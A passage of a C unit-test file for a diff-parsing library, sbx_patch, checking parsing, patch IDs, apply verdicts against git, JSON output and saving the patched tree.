    ck_assert_str_eq(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_SAFE);
    ck_assert_int_eq(sbx_patch_broken_rule(p), SBX_PATCH_RULE_NONE);
    ck_assert_uint_eq(sbx_patch_file_count(p), 6);
    expect_file(p, 0, "docs/new.md", NULL, SBX_PATCH_ADDED, 0, 0100644, 3, 0, 0);
    expect_file(p, 1, "gone.txt", NULL, SBX_PATCH_DELETED, 0100644, 0, 0, 1, 0);
    expect_file(p, 2, "img.bin", NULL, SBX_PATCH_MODIFIED, 0100644, 0100644, 0, 0, 1);
    expect_file(p, 3, "new/name.txt", "old/name.txt", SBX_PATCH_RENAMED, 0100644, 0100644, 1, 1, 0);
    expect_file(p, 4, "src/main.c", NULL, SBX_PATCH_MODIFIED, 0100644, 0100644, 1, 1, 0);
    expect_file(p, 5, "tools/run.sh", NULL, SBX_PATCH_MODIFIED, 0100644, 0100755, 0, 0, 0);
    ck_assert_str_eq(sbx_patch_id(p), multi_diff_id);
    sbx_patch_free(p);
}
END_TEST

/* sbx_patch_id() against `git patch-id --stable`, file by file (each
 * section of the multi-file diff alone), then whole. */
START_TEST(test_patch_id_matches_git)
{
    char dir[64], path[128], id[41];
    const char *at = multi_diff;
    int sections = 0;
    t_git_env();
    make_tmpdir(dir);
    snprintf(path, sizeof path, "%s/section.diff", dir);
    while (at && *at) {
        const char *next = strstr(at + 1, "diff --git ");
        size_t n = next ? (size_t)(next - at) : strlen(at);
        sbx_patch *p = sbx_patch_new();
        t_write_file(dir, "section.diff", at, n, 0);
        t_git_patch_id(path, id);
        ck_assert_uint_eq(strlen(id), 40);
        ck_assert_int_eq(sbx_patch_load_data(p, (const uint8_t *)at, n), SBX_OK);
        ck_assert_msg(strcmp(sbx_patch_id(p), id) == 0, "%s: git patch-id --stable %s, sbx_patch_id %s",
                      sbx_patch_file_path(p, 0), id, sbx_patch_id(p));
        sbx_patch_free(p);
        sections++;
        at = next;
    }
    ck_assert_int_eq(sections, 6);
    t_write_file(dir, "section.diff", multi_diff, strlen(multi_diff), 0);
    t_git_patch_id(path, id);
    ck_assert_str_eq(id, multi_diff_id);
    {
        /* The fuzz target's find: read as a safe patch, with no id, where
         * git patch-id gives one (seeds/patch/safe-without-patch-id). */
        static const char odd[] = "diff \352-git diff --git a/vendor/sub b/vendor/sub\n"
                                  "index Only in a: b\n"
                                  "1111111111111111111111111111111111111111..2222222222222222222222222222222222222222 "
                                  "160000\n"
                                  "--- a/vendor/sub\n"
                                  "+++ b/vendor/sub\n"
                                  "@@ -1 +1 @@\n"
                                  "-Subproject commit 1111111111111111111111111111111111111111\n"
                                  "+Subproject commit 2222222222222222222222222222222222222222\n";
        sbx_patch *p = sbx_patch_new();
        t_write_file(dir, "section.diff", odd, strlen(odd), 0);
        t_git_patch_id(path, id);
        ck_assert_uint_eq(strlen(id), 40);
        if (load(p, odd) == SBX_OK)
            ck_assert_msg(strcmp(sbx_patch_id(p), id) == 0, "git patch-id --stable %s, sbx_patch_id \"%s\"", id,
                          sbx_patch_id(p));
        sbx_patch_free(p);
    }
    remove_tree(dir);
}
END_TEST

START_TEST(test_patch_copy_and_pure_rename)
{
    static const char text[] =
        "diff --git a/README b/README.copy\nsimilarity index 66%\ncopy from README\ncopy to README.copy\n"
        "index 94954abda49de8615a048f8d2e64b5de848e27a1..a918256d706dd414afac7297e1a8bb923f06c577 100644\n"
        "--- a/README\n+++ b/README.copy\n@@ -1,2 +1,3 @@\n hello\n world\n+extra\n"
        "diff --git a/gone.txt b/kept.txt\nsimilarity index 100%\nrename from gone.txt\nrename to kept.txt\n";
    char repo[64];
    sbx_patch *p = sbx_patch_new();
    make_base_repo(repo);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(load(p, text), SBX_OK);
    ck_assert_uint_eq(sbx_patch_file_count(p), 2);
    ck_assert_str_eq(sbx_patch_file_path(p, 0), "README.copy");
    ck_assert_str_eq(sbx_patch_file_old_path(p, 0), "README");
    ck_assert_int_eq(sbx_patch_file_change(p, 0), SBX_PATCH_COPIED);
    ck_assert_uint_eq(sbx_patch_file_additions(p, 0), 1);
    ck_assert_uint_eq(sbx_patch_file_deletions(p, 0), 0);
    ck_assert_str_eq(sbx_patch_file_path(p, 1), "kept.txt");
    ck_assert_str_eq(sbx_patch_file_old_path(p, 1), "gone.txt");
    ck_assert_int_eq(sbx_patch_file_change(p, 1), SBX_PATCH_RENAMED);
    ck_assert_uint_eq(sbx_patch_file_additions(p, 1), 0);
    ck_assert_uint_eq(sbx_patch_file_deletions(p, 1), 0);
    ck_assert_int_eq(git_applies_text(repo, "HEAD", text, strlen(text)), 1);
    ck_assert_msg(sbx_patch_check(p) == SBX_OK, "%s", sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_APPLIES);
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

START_TEST(test_patch_plain_diff_u)
{
    char repo[64];
    sbx_patch *p = sbx_patch_new();
    make_base_repo(repo);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_msg(load(p, plain_diff) == SBX_OK, "%s", sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_SAFE);
    ck_assert_uint_eq(sbx_patch_file_count(p), 2);
    /* The timestamps after the tab are not part of the names. */
    ck_assert_str_eq(sbx_patch_file_path(p, 0), "README");
    ck_assert_str_eq(sbx_patch_file_path(p, 1), "src/main.c");
    for (size_t i = 0; i < 2; i++) {
        ck_assert_int_eq(sbx_patch_file_change(p, i), SBX_PATCH_MODIFIED);
        ck_assert_uint_eq(sbx_patch_file_additions(p, i), 1);
        ck_assert_uint_eq(sbx_patch_file_deletions(p, i), 1);
        ck_assert_int_eq(sbx_patch_file_binary(p, i), 0);
    }
    ck_assert_uint_eq(strlen(sbx_patch_id(p)), 40);
    ck_assert_int_eq(git_applies_text(repo, "HEAD", plain_diff, strlen(plain_diff)), 1);
    ck_assert_msg(sbx_patch_check(p) == SBX_OK, "%s", sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_APPLIES);
    sbx_patch_free(p);

    /* A single file, `diff -u` without -r. */
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(load(p, "--- a/README\t2024-01-02 03:04:05.000000000 +0000\n"
                             "+++ b/README\t2024-01-02 03:04:06.000000000 +0000\n"
                             "@@ -1,2 +1,2 @@\n hello\n-world\n+there\n"),
                     SBX_OK);
    ck_assert_str_eq(sbx_patch_file_path(p, 0), "README");
    ck_assert_int_eq(sbx_patch_check(p), SBX_OK);
    /* (git patch-id gives no id for a diff without a "diff " line: nothing to
     * compare with, but there is one.) */
    ck_assert_uint_eq(strlen(sbx_patch_id(p)), 40);
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

/* ---- against a base, compared with git apply --check ------------------------------------------- */

START_TEST(test_patch_check_matches_git)
{
    static const struct {
        const char *name, *diff;
        int git; /* git apply --check's exit code on the base (asserted too): 0 applies, 1 does not, 128 corrupt */
        int stricter; /* a documented difference (doc/patch.md): refused here, malformed or not applying */
    } cases[] = {
        {"multi-file diff", multi_diff, 0, 0},
        {"plain diff -ru", plain_diff, 0, 0},
        {"hunk at an offset",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -4,2 +4,2 @@\n hello\n-world\n+there\n", 0, 0},
        {"hunk 7 lines off, inside the file",
         "diff --git a/big.txt b/big.txt\n--- a/big.txt\n+++ b/big.txt\n@@ -40,7 +40,7 @@\n line 47\n line 48\n"
         " line 49\n-line 50\n+LINE 50\n line 51\n line 52\n line 53\n",
         0, 0},
        {"hunk 7 lines off the other way",
         "diff --git a/big.txt b/big.txt\n--- a/big.txt\n+++ b/big.txt\n@@ -54,7 +54,7 @@\n line 47\n line 48\n"
         " line 49\n-line 50\n+LINE 50\n line 51\n line 52\n line 53\n",
         0, 0},
        {"context that differs",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n hallo\n-world\n+there\n", 1, 0},
        {"whitespace that differs",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n hello  \n-world\n+there\n", 1, 0},
        {"no newline at the end, but there is one",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n hello\n-world\n"
         "\\ No newline at end of file\n+there\n",
         1, 0},
        {"adding a file that exists",
         "diff --git a/README b/README\nnew file mode 100644\n--- /dev/null\n+++ b/README\n@@ -0,0 +1 @@\n+x\n", 1, 0},
        {"deleting a file that does not exist",
         "diff --git a/nope b/nope\ndeleted file mode 100644\n--- a/nope\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n", 1, 0},
        {"deleting a file with other content",
         "diff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n"
         "-hello\n",
         1, 0},
        {"renaming a file that does not exist",
         "diff --git a/nope b/x\nsimilarity index 100%\nrename from nope\nrename to x\n", 1, 0},
        {"renaming onto a file that exists",
         "diff --git a/README b/gone.txt\nsimilarity index 100%\nrename from README\nrename to gone.txt\n", 1, 0},
        {"a mode change of a file that does not exist", "diff --git a/nope b/nope\nold mode 100644\nnew mode 100755\n",
         1, 0},
        {"a binary patch against other content",
         "diff --git a/README b/README\n"
         "index 96eb299ab61d459148b19b03f71386abcec74669..60051deb32a631ffe615c785bf60e86782f5220a 100644\n"
         "GIT binary patch\nliteral 64\n"
         "zcmZ>;x3jgewz9M^H#0RcHZnBO*VEO}*3#5aS5s9{R#H@umy?x|mXeeZ7ZVi`77`TT\nT=i}w!=HldFXJchyW?}>YU9Sis\n\n"
         "literal 64\nzcmZQzWMXDvWn<^y<l^Sx<>MC+6cQE@6%&_`l#-T_m6KOcR8m$^Ra4i{)Y8_`)zddH\n"
         "TG%_|ZH8Z!cw6eCbwX+8Rs^ACV\n\n",
         1, 0},
        /* Found by mutating diffs and comparing with git: */
        {"\"\\ No newline\" after the last context line",
         "diff --git a/big.txt b/big.txt\n--- a/big.txt\n+++ b/big.txt\n@@ -47,7 +47,7 @@ line 46\n line 47\n line 48\n"
         " line 49\n-line 50\n+LINE 50\n line 51\n line 52\n line 53\n\\ No newline at end of file\n",
         0, 1},
        {"\"\\ No newline\" right after the hunk header",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n\\ No newline at end of file\n"
         " hello\n-world\n+there\n",
         0, 1},
        {"a space after the name on the --- line",
         "diff --git a/README b/README\n--- a/README \n+++ b/README\n@@ -1,2 +1,2 @@\n hello\n-world\n+there\n", 1, 1},
        {"a space after /dev/null on the +++ line of a deletion",
         "diff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n--- a/gone.txt\n+++ /dev/null \n@@ -1 +0,0 @@\n"
         "-bye\n",
         0, 0},
        {"a deletion without its \"deleted file mode\" line",
         "diff --git a/gone.txt b/gone.txt\n--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n", 0, 1},
        {"a space after the name on the +++ line of an added file",
         "diff --git a/docs/new.md b/docs/new.md\nnew file mode 100644\n--- /dev/null\n+++ b/docs/new.md \n"
         "@@ -0,0 +1 @@\n+x\n",
         128, 0},
        {"a hunk with more lines than its header counts",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n hello\n world\n world\n+there\n",
         128, 0},
        {"a context line between the index and --- lines",
         "diff --git a/docs/new.md b/docs/new.md\nnew file mode 100644\n"
         "index 0000000000000000000000000000000000000000..550e149312bd71f757a91987c1ee7829ff9a3c85\n line 50\n"
         "--- /dev/null\n+++ b/docs/new.md\n@@ -0,0 +1,3 @@\n+# New\n+\n+text\n",
         0, 1},
        {"the same file twice, in sequence",
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n hello\n-world\n+there\n"
         "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n hello\n-there\n+again\n",
         0, 0},
    };
    char repo[64], first[512] = "";
    int failed = 0;
    make_base_repo(repo);
    /* Every case is tried; the differences are listed on stderr. */
    for (size_t i = 0; i < SBX__ARRAY_LEN(cases); i++) {
        sbx_patch *p = sbx_patch_new();
        int code = git_apply_code(repo, cases[i].diff), git = code == 0, ok;
        sbx_status st;
        char why[512];
        ck_assert_msg(code == cases[i].git, "%s: git apply --check exits %d (the test expects %d)", cases[i].name,
                      code, cases[i].git);
        ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
        st = load(p, cases[i].diff);
        if (st == SBX_OK)
            st = sbx_patch_check(p);
        if (cases[i].stricter)
            ok = (st == SBX_E_PARSE && sbx_patch_get_verdict(p) == SBX_PATCH_MALFORMED) ||
                 (st == SBX_E_PATCH && sbx_patch_get_verdict(p) == SBX_PATCH_DOES_NOT_APPLY);
        else if (git)
            ok = st == SBX_OK && sbx_patch_get_verdict(p) == SBX_PATCH_APPLIES && !sbx_patch_last_error(p)[0];
        else if (code == 128) /* git: corrupt; here malformed, or at least not applying */
            ok = (st == SBX_E_PARSE && sbx_patch_get_verdict(p) == SBX_PATCH_MALFORMED) ||
                 (st == SBX_E_PATCH && sbx_patch_get_verdict(p) == SBX_PATCH_DOES_NOT_APPLY);
        else
            ok = st == SBX_E_PATCH && sbx_patch_get_verdict(p) == SBX_PATCH_DOES_NOT_APPLY && sbx_patch_last_error(p)[0] &&
                 sbx_patch_broken_rule(p) == SBX_PATCH_RULE_NONE;
        if (!ok) {
            snprintf(why, sizeof why, "%s: git apply --check: %s; sbx_patch: %s, %s: %s", cases[i].name,
                     git ? "applies" : code == 128 ? "corrupt patch" : "does not apply", sbx_status_name(st),
                     sbx_patch_verdict_name(sbx_patch_get_verdict(p)), sbx_patch_last_error(p));
            fprintf(stderr, "check_matches_git: %s\n", why);
            if (failed++ == 0)
                snprintf(first, sizeof first, "%s", why);
        }
        sbx_patch_free(p);
    }
    remove_tree(repo);
    ck_assert_msg(failed == 0, "%d of %zu verdicts differ from git's (all on stderr); the first: %s", failed,
                  SBX__ARRAY_LEN(cases), first);
}
END_TEST

START_TEST(test_patch_check_names_the_file)
{
    char repo[64];
    sbx_patch *p = sbx_patch_new();
    make_base_repo(repo);
    /* On branch "other" src/main.c has b = 5: the multi-file diff fails there. */
    ck_assert_int_eq(sbx_patch_set_base(p, repo, "other"), SBX_OK);
    ck_assert_int_eq(load(p, multi_diff), SBX_OK);
    ck_assert_int_eq(git_applies_text(repo, "other", multi_diff, strlen(multi_diff)), 0);
    ck_assert_int_eq(sbx_patch_check(p), SBX_E_PATCH);
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_DOES_NOT_APPLY);
    ck_assert_msg(strstr(sbx_patch_last_error(p), "src/main.c"), "%s", sbx_patch_last_error(p));
    /* ... and the hunk, by its header, with why it does not apply. */
    ck_assert_msg(strstr(sbx_patch_last_error(p), "hunk @@ -"), "%s", sbx_patch_last_error(p));
    ck_assert_msg(strstr(sbx_patch_last_error(p), "are not in the file"), "%s", sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_save_tree_file(p, "/tmp/sbx-patch-never.tar.gz"), SBX_E_MISUSE);
    ck_assert_int_eq(access("/tmp/sbx-patch-never.tar.gz", F_OK), -1);
    sbx_patch_free(p);
    /* Its parent is main: there it applies. */
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(p, repo, "other~1"), SBX_OK);
    ck_assert_int_eq(load(p, multi_diff), SBX_OK);
    ck_assert_int_eq(sbx_patch_check(p), SBX_OK);
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_APPLIES);
    sbx_patch_free(p);
    /* The repository on disk is not changed by any of it. */
    ck_assert_int_eq(t_sh("cd '%s' && git diff --quiet HEAD && test -z \"$(git status --porcelain)\"", repo), 0);
    remove_tree(repo);
}
END_TEST

/* ---- JSON, saving, the patched tree ---------------------------------------------------------- */

START_TEST(test_patch_json_and_save)
{
    char repo[64];
    sbx_patch *p = sbx_patch_new(), *again = sbx_patch_new();
    char *json = NULL;
    uint8_t *out = NULL;
    size_t len = 0;
    json_error_t je;
    json_t *j, *files, *stat;
    make_base_repo(repo);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(load(p, multi_diff), SBX_OK);
    ck_assert_int_eq(sbx_patch_check(p), SBX_OK);
    ck_assert_int_eq(sbx_patch_to_json(p, &json), SBX_OK);
    j = json_loads(json, 0, &je);
    ck_assert_msg(j != NULL, "%s: %s", je.text, json);
    ck_assert_str_eq(json_string_value(json_object_get(j, "verdict")), "applies");
    ck_assert_str_eq(json_string_value(json_object_get(j, "patchId")), multi_diff_id);
    files = json_object_get(j, "files");
    ck_assert_uint_eq(json_array_size(files), 6);
    ck_assert_str_eq(json_string_value(json_object_get(json_array_get(files, 3), "path")), "new/name.txt");
    ck_assert_str_eq(json_string_value(json_object_get(json_array_get(files, 3), "oldPath")), "old/name.txt");
    stat = json_object_get(j, "diffstat");
    ck_assert_int_eq(json_integer_value(json_object_get(stat, "files")), 6);
    ck_assert_int_eq(json_integer_value(json_object_get(stat, "additions")), 5);
    ck_assert_int_eq(json_integer_value(json_object_get(stat, "deletions")), 3);
    json_decref(j);
    sbx_free(json);

    /* The diff saved reads back as the same patch. */
    ck_assert_int_eq(sbx_patch_save_data(p, &out, &len), SBX_OK);
    ck_assert_ptr_nonnull(out);
    ck_assert_uint_eq(out[len], 0);
    ck_assert_int_eq(sbx_patch_load_data(again, out, len), SBX_OK);
    ck_assert_str_eq(sbx_patch_id(again), multi_diff_id);
    ck_assert_uint_eq(sbx_patch_file_count(again), 6);
    sbx_free(out);

    /* An unsafe patch's JSON says why. */
    sbx_patch_free(again);
    again = sbx_patch_new();
    ck_assert_int_eq(load(again, unsafe_case_named("git dir, nested hook")->diff), SBX_E_PATCH);
    ck_assert_int_eq(sbx_patch_to_json(again, &json), SBX_OK);
    j = json_loads(json, 0, &je);
    ck_assert_msg(j != NULL, "%s: %s", je.text, json);
    ck_assert_str_eq(json_string_value(json_object_get(j, "verdict")), sbx_patch_verdict_name(SBX_PATCH_UNSAFE));
    ck_assert_str_eq(json_string_value(json_object_get(j, "rule")), "git-dir");
    json_decref(j);
    sbx_free(json);
    sbx_patch_free(again);
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

/* The regular files of a gzip tar: name -> content and permissions. */
struct tar_file {
    char name[128];
    char data[256];
    size_t len;
    unsigned perm;
};

static size_t read_tar(const char *path, struct tar_file *files, size_t cap)
{
    struct archive *a = archive_read_new();
    struct archive_entry *ae;
    size_t n = 0;
    int r;
    ck_assert_int_eq(archive_read_support_filter_gzip(a), ARCHIVE_OK);
    ck_assert_int_eq(archive_read_support_format_tar(a), ARCHIVE_OK);
    ck_assert_msg(archive_read_open_filename(a, path, 16384) == ARCHIVE_OK, "open: %s", archive_error_string(a));
    while ((r = archive_read_next_header(a, &ae)) == ARCHIVE_OK) {
        const char *name = archive_entry_pathname(ae);
        la_ssize_t got;
        if (archive_entry_filetype(ae) != AE_IFREG)
            continue;
        ck_assert_uint_lt(n, cap);
        if (strncmp(name, "./", 2) == 0)
            name += 2;
        snprintf(files[n].name, sizeof files[n].name, "%s", name);
        files[n].perm = (unsigned)archive_entry_perm(ae);
        got = archive_read_data(a, files[n].data, sizeof files[n].data);
        ck_assert_int_ge(got, 0);
        files[n].len = (size_t)got;
        n++;
    }
    ck_assert_int_eq(r, ARCHIVE_EOF);
    archive_read_free(a);
    return n;
}

static const struct tar_file *tar_find(const struct tar_file *files, size_t n, const char *name)
{
    for (size_t i = 0; i < n; i++)
        if (strcmp(files[i].name, name) == 0)
            return &files[i];
    return NULL;
}

START_TEST(test_patch_save_tree_file)
{
    char repo[64], out[128];
    struct tar_file files[32];
    const struct tar_file *f;
    size_t n;
    sbx_patch *p = sbx_patch_new();
    make_base_repo(repo);
    snprintf(out, sizeof out, "%s.tar.gz", repo);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(load(p, multi_diff), SBX_OK);
    ck_assert_int_eq(sbx_patch_save_tree_file(p, out), SBX_E_MISUSE); /* not checked yet */
    ck_assert_int_eq(sbx_patch_check(p), SBX_OK);
    ck_assert_int_eq(sbx_patch_save_tree_file(p, "/nonexistent/dir/x.tar.gz"), SBX_E_IO);
    ck_assert_msg(sbx_patch_save_tree_file(p, out) == SBX_OK, "%s", sbx_patch_last_error(p));
    n = read_tar(out, files, SBX__ARRAY_LEN(files));
    ck_assert_uint_eq(n, 7);
    ck_assert_ptr_null(tar_find(files, n, "gone.txt"));
    ck_assert_ptr_null(tar_find(files, n, "old/name.txt"));
    ck_assert_ptr_nonnull(f = tar_find(files, n, "docs/new.md"));
    ck_assert_uint_eq(f->len, 12);
    ck_assert_int_eq(memcmp(f->data, "# New\n\ntext\n", 12), 0);
    ck_assert_ptr_nonnull(f = tar_find(files, n, "new/name.txt"));
    ck_assert_ptr_nonnull(memmem(f->data, f->len, "\nFIVE\n", 6));
    ck_assert_ptr_nonnull(f = tar_find(files, n, "src/main.c"));
    ck_assert_ptr_nonnull(memmem(f->data, f->len, "int b = 3;", 10));
    ck_assert_ptr_nonnull(f = tar_find(files, n, "tools/run.sh"));
    ck_assert_uint_eq(f->perm & 0111, 0111);
    ck_assert_ptr_nonnull(f = tar_find(files, n, "README"));
    ck_assert_uint_eq(f->perm & 0111, 0);
    ck_assert_ptr_nonnull(f = tar_find(files, n, "img.bin"));
    ck_assert_uint_eq(f->len, 64);
    for (size_t i = 0; i < 64; i++)
        ck_assert_uint_eq((uint8_t)f->data[i], 64 - i);
    /* The repository is as it was. */
    ck_assert_int_eq(t_sh("cd '%s' && test -z \"$(git status --porcelain)\" && test -f gone.txt", repo), 0);
    unlink(out);
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

/* The directory form holds what `git apply` leaves in a clone, with the
 * same modes; an existing directory with files in it, a failure half way
 * and a refused call leave nothing behind. */
START_TEST(test_patch_save_tree_dir)
{
    char repo[64], out[128], diff[128];
    sbx_patch *p = sbx_patch_new(), *small;
    make_base_repo(repo);
    snprintf(out, sizeof out, "%s.tree", repo);
    snprintf(diff, sizeof diff, "%s.diff", repo);
    ck_assert_int_eq(sbx_patch_save_tree_dir(NULL, out), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_save_tree_dir(p, NULL), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_save_tree_dir(p, ""), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(load(p, multi_diff), SBX_OK);
    ck_assert_int_eq(sbx_patch_save_tree_dir(p, out), SBX_E_MISUSE); /* not checked yet */
    ck_assert_int_eq(sbx_patch_check(p), SBX_OK);
    ck_assert_int_eq(sbx_patch_save_tree_dir(p, "/nonexistent/dir/tree"), SBX_E_IO);
    ck_assert_ptr_nonnull(strstr(sbx_patch_last_error(p), "/nonexistent/dir/tree"));

    /* A directory with a file in it is refused and kept as it was. */
    ck_assert_int_eq(mkdir(out, 0700), 0);
    t_write_file(out, "mine.txt", "mine\n", 5, 0);
    ck_assert_int_eq(sbx_patch_save_tree_dir(p, out), SBX_E_IO);
    ck_assert_ptr_nonnull(strstr(sbx_patch_last_error(p), "must not exist"));
    ck_assert_int_eq(t_sh("test \"$(ls -A '%s')\" = mine.txt && ls -d '%s'.tmp.* 2>/dev/null | wc -l | grep -qx 0",
                          out, out), 0);
    remove_tree(out);

    /* An empty one is filled; a new one made. Both equal git's result. */
    ck_assert_int_eq(mkdir(out, 0700), 0);
    ck_assert_msg(sbx_patch_save_tree_dir(p, out) == SBX_OK, "%s", sbx_patch_last_error(p));
    ck_assert_str_eq(sbx_patch_last_error(p), "");
    t_write_file("/", diff + 1, multi_diff, strlen(multi_diff), 0);
    ck_assert_int_eq(t_sh("cd '%s' && git clone -q . '%s.git-result' && cd '%s.git-result' && git apply '%s' && "
                          "diff -r --exclude=.git . '%s' && test -x '%s/tools/run.sh' && ! test -x '%s/README' && "
                          "test ! -e '%s/gone.txt' && ls -d '%s'.tmp.* 2>/dev/null | wc -l | grep -qx 0",
                          repo, repo, repo, diff, out, out, out, out, out),
                     0);
    remove_tree(out);
    ck_assert_int_eq(sbx_patch_save_tree_dir(p, "/"), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_save_tree_dir(p, "///"), SBX_E_INVALID_ARG);
    {
        char slashed[160];
        snprintf(slashed, sizeof slashed, "%s//", out); /* the same directory */
        ck_assert_msg(sbx_patch_save_tree_dir(p, slashed) == SBX_OK, "%s", sbx_patch_last_error(p));
    }
    ck_assert_int_eq(t_sh("diff -r '%s.git-result/src' '%s/src'", repo, out), 0);
    /* The repository is as it was. */
    ck_assert_int_eq(t_sh("cd '%s' && test -z \"$(git status --porcelain)\" && test -f gone.txt", repo), 0);
    remove_tree(out);

    /* A base alone is its own tree; a file over the limit fails with no
     * directory and no temporary left. */
    small = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(small, 0, 0, 100), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_base(small, repo, NULL), SBX_OK);
    ck_assert_int_eq(sbx_patch_save_tree_dir(small, out), SBX_E_BUDGET_EXCEEDED);
    ck_assert_ptr_nonnull(strstr(sbx_patch_last_error(small), "big.txt"));
    ck_assert_int_eq(t_sh("test ! -e '%s' && ls -d '%s'.tmp.* 2>/dev/null | wc -l | grep -qx 0", out, out), 0);
    sbx_patch_free(small);
    small = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(small, repo, "other"), SBX_OK);
    ck_assert_msg(sbx_patch_save_tree_dir(small, out) == SBX_OK, "%s", sbx_patch_last_error(small));
    ck_assert_int_eq(t_sh("grep -q 'b = 5' '%s/src/main.c' && test -f '%s/gone.txt'", out, out), 0);
    sbx_patch_free(small);

    remove_tree(out);
    unlink(diff);
    snprintf(out, sizeof out, "%s.git-result", repo);
    remove_tree(out);
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

/* ---- file operations ------------------------------------------------------------------------- */

START_TEST(test_patch_add_file_operations)
{
    static const uint8_t bin[] = {0, 1, 2, 3, 0xff, 0, 'x', '\n', 0, 9};
    char repo[64], diff[128];
    sbx_patch *p = sbx_patch_new(), *again;
    uint8_t *out = NULL;
    size_t len = 0;
    long i;
    make_base_repo(repo);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "docs/new.md", "# New\n", 0), SBX_OK);
    ck_assert_str_eq(sbx_patch_last_error(p), "");
    ck_assert_int_eq(add(p, SBX_PATCH_MODIFIED, "README", "hello\nthere\n", 0644), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_MODIFIED, "tools/run.sh", base_run_sh, 0755), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_DELETED, "gone.txt", NULL, 0), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "bin/tool", "#!/bin/sh\nexit 0\n", 0755), SBX_OK);
    ck_assert_int_eq(sbx_patch_add_file(p, SBX_PATCH_ADDED, "data/blob.bin", bin, sizeof bin, 0), SBX_OK);
    ck_assert_msg(sbx_patch_check(p) == SBX_OK, "%s", sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_APPLIES);
    ck_assert_uint_eq(sbx_patch_file_count(p), 6);

    ck_assert_int_ge(i = file_index(p, "docs/new.md"), 0);
    expect_file(p, (size_t)i, "docs/new.md", NULL, SBX_PATCH_ADDED, 0, 0100644, 1, 0, 0);
    ck_assert_int_ge(i = file_index(p, "README"), 0);
    expect_file(p, (size_t)i, "README", NULL, SBX_PATCH_MODIFIED, 0100644, 0100644, 1, 1, 0);
    ck_assert_int_ge(i = file_index(p, "tools/run.sh"), 0);
    expect_file(p, (size_t)i, "tools/run.sh", NULL, SBX_PATCH_MODIFIED, 0100644, 0100755, 0, 0, 0);
    ck_assert_int_ge(i = file_index(p, "gone.txt"), 0);
    expect_file(p, (size_t)i, "gone.txt", NULL, SBX_PATCH_DELETED, 0100644, 0, 0, 1, 0);
    ck_assert_int_ge(i = file_index(p, "bin/tool"), 0);
    expect_file(p, (size_t)i, "bin/tool", NULL, SBX_PATCH_ADDED, 0, 0100755, 2, 0, 0);
    ck_assert_int_ge(i = file_index(p, "data/blob.bin"), 0);
    expect_file(p, (size_t)i, "data/blob.bin", NULL, SBX_PATCH_ADDED, 0, 0100644, 0, 0, 1);

    /* The diff built is git's: git applies it to the base, and it reads back
     * as the same patch. */
    ck_assert_int_eq(sbx_patch_save_data(p, &out, &len), SBX_OK);
    ck_assert_int_eq(git_applies_text(repo, "HEAD", (const char *)out, len), 1);
    snprintf(diff, sizeof diff, "%s.ops.diff", repo);
    {
        FILE *f = fopen(diff, "wb");
        char id[41];
        ck_assert_ptr_nonnull(f);
        ck_assert_uint_eq(fwrite(out, 1, len, f), len);
        fclose(f);
        t_git_patch_id(diff, id);
        ck_assert_str_eq(sbx_patch_id(p), id);
        unlink(diff);
    }
    again = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(again, repo, NULL), SBX_OK);
    ck_assert_int_eq(sbx_patch_load_data(again, out, len), SBX_OK);
